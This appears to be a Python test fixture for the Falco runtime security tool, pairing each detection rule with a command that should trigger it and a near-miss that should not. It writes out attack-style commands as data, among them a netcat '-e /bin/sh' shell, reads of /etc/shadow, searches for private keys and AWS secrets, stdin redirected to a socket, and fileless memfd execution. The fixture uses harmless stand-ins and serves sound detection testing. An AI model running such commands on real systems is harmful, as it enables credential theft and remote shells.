"""For each of Falco's stable rules something that it is about, and something much like it that it is not about."""

from __future__ import annotations

import sys
from collections.abc import Sequence
from pathlib import Path
from typing import NamedTuple

PYTHON = sys.executable
K8S_ADDRESS = "127.0.0.77"
"""What the name of the Kubernetes API server has to stand for."""


class Workload(NamedTuple):
    """A command."""

    words: Sequence[str]
    in_container: bool = False
    executable: str = ""
    cwd: str = ""
    terminal: bool = False


def python(code: str, **more: object) -> Workload:
    """A few lines of Python."""
    return Workload([PYTHON, "-S", "-c", code], **more)  # type: ignore[arg-type]


def _connect(address: str, port: int) -> str:
    return f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('{address}', {port}))"


def _ptrace(request: int) -> str:
    return f"import ctypes; ctypes.CDLL(None).ptrace({request}, 1 << 22, 0, 0)"


_FINIT_MODULE = "import ctypes; ctypes.CDLL(None).syscall(313, -1, b'', 0)"  # no such file: nothing is loaded
_DUP = "import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 9)); "
_SSH = (
    "import subprocess as s, socket; s.run(['ip', 'link', 'set', 'lo', 'up']); "
    "s.run(['ip', 'address', 'add', '203.0.113.1/32', 'dev', 'lo']); "
    "l = socket.create_server(('203.0.113.1', {port})); socket.create_connection(('203.0.113.1', {port}))"
)
_MEMFD = (
    "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); "
    "os.execv(f'/proc/self/fd/{fd}', ['x'])"
)
_OVERLAY = (
    "set -e; cd {tmp}; mount -t tmpfs none overlay; cd overlay; mkdir lower upper work merged; cp /bin/true lower/old; "
    "mount -t overlay none -o lowerdir=lower,upperdir=upper,workdir=work merged; cp /bin/true merged/new; merged/{name}"
)


def workloads(tmp: Path) -> dict[str, tuple[Workload, Workload]]:
    """By rule: what it fires on, and what it does not. `tmp` holds copies of programs: see `prepare`."""
    inside, run = True, lambda *words: Workload(words)
    program = {name: str(tmp / name) for name in ("nginx", "sshd", "runc", "nc", "shred")}
    setpriv = "setpriv --reuid=1 --clear-groups /bin/true; :"
    return {
        "Directory traversal monitored file read": (run("cat", "/usr/../usr/../etc/passwd"), run("cat", "/etc/passwd")),
        "Read sensitive file trusted after startup": (
            run(program["nginx"], "-c", "sleep 5.3; read x < /etc/shadow"),
            run(program["nginx"], "-c", "read x < /etc/shadow"),
        ),
        "Read sensitive file untrusted": (run("cat", "/etc/shadow"), run("cat", "/etc/hostname")),
        "Run shell untrusted": (
            run(program["nginx"], "-c", "sh -c true; :"),
            python("import os; os.system('true')"),
        ),
        "System user interactive": (run(program["sshd"], "-c", setpriv), run("sh", "-c", setpriv)),
        "Terminal shell in container": (
            Workload([program["runc"], "-c", "sh -c true; :"], inside, terminal=True),
            Workload([program["runc"], "-c", "sh -c true; :"], inside),
        ),
        "Contact K8S API Server From Container": (
            python(_connect(K8S_ADDRESS, 443), in_container=True),
            python(_connect("127.0.0.78", 443), in_container=True),
        ),
        "Netcat Remote Code Execution in Container": (
            Workload([program["nc"], "-e", "/bin/sh", "host", "99"], inside),
            Workload([program["nc"], "host", "99"], inside),
        ),
        "Search Private Keys or Passwords": (
            run("grep", "BEGIN RSA PRIVATE", "/dev/null"),
            run("grep", "BEGIN", "/dev/null"),
        ),
        "Clear Log Activities": (
            python(f"open('{tmp}/auth.log', 'w')"),
            python(f"open('{tmp}/auth.log', 'a')"),
        ),
        "Remove Bulk Data from Disk": (run(program["shred"], "file"), run("true", "file")),
        "Create Symlink Over Sensitive Files": (
            run("ln", "-sf", "/etc/shadow", f"{tmp}/link"),
            run("ln", "-sf", "/etc/hostname", f"{tmp}/link"),
        ),
        "Create Hardlink Over Sensitive Files": (
            run("ln", "-f", "/etc/shadow", f"{tmp}/hard"),
            run("ln", "-f", f"{tmp}/nc", f"{tmp}/hard"),
        ),
        "Packet socket created in container": (
            python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", in_container=True),
            python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
        ),
        "Redirect STDOUT/STDIN to Network Connection in Container": (
            python(_DUP + "os.dup2(s.fileno(), 0)", in_container=True),
            python(_DUP + "os.dup2(s.fileno(), 9)", in_container=True),
        ),
        "Linux Kernel Module Injection Detected": (
            python(_FINIT_MODULE, in_container=True),
            python(_FINIT_MODULE),
        ),
        "Detect release_agent File Container Escapes": (
            python(f"open('{tmp}/release_agent', 'w')", in_container=True),
            python(f"open('{tmp}/release_agent')", in_container=True),
        ),
        "PTRACE attached to process": (python(_ptrace(16)), python(_ptrace(17))),
        "PTRACE anti-debug attempt": (python(_ptrace(0)), python(_ptrace(17))),
        "Find AWS Credentials": (
            run("grep", "aws_secret_access_key", "/dev/null"),
            run("grep", "aws", "/dev/null"),
        ),
        "Execution from /dev/shm": (run("/dev/shm/tracer-test-true"), run(program["nc"])),
        "Drop and execute new binary in container": (
            Workload(["unshare", "-m", "sh", "-c", _OVERLAY.format(tmp=tmp, name="new")], inside),
            Workload(["unshare", "-m", "sh", "-c", _OVERLAY.format(tmp=tmp, name="old")], inside),
        ),
        "Disallowed SSH Connection Non Standard Port": (
            Workload(["unshare", "-n", "bash", "-c", f'exec -a ssh {PYTHON} -c "{_SSH.format(port=443)}"']),
            Workload(["unshare", "-n", "bash", "-c", f'exec -a ssh {PYTHON} -c "{_SSH.format(port=22)}"']),
        ),
        "Fileless execution via memfd_create": (python(_MEMFD), run("true")),
    }


def prepare(tmp: Path) -> None:
    """Puts the copies of programs where the workloads look for them."""
    import shutil

    for name, program in {"nginx": "dash", "sshd": "dash", "runc": "dash", "nc": "true", "shred": "true"}.items():
        shutil.copy(f"/bin/{program}", tmp / name)
    shutil.copy("/bin/true", "/dev/shm/tracer-test-true")
    (tmp / "overlay").mkdir()
    (tmp / "release_agent").touch()
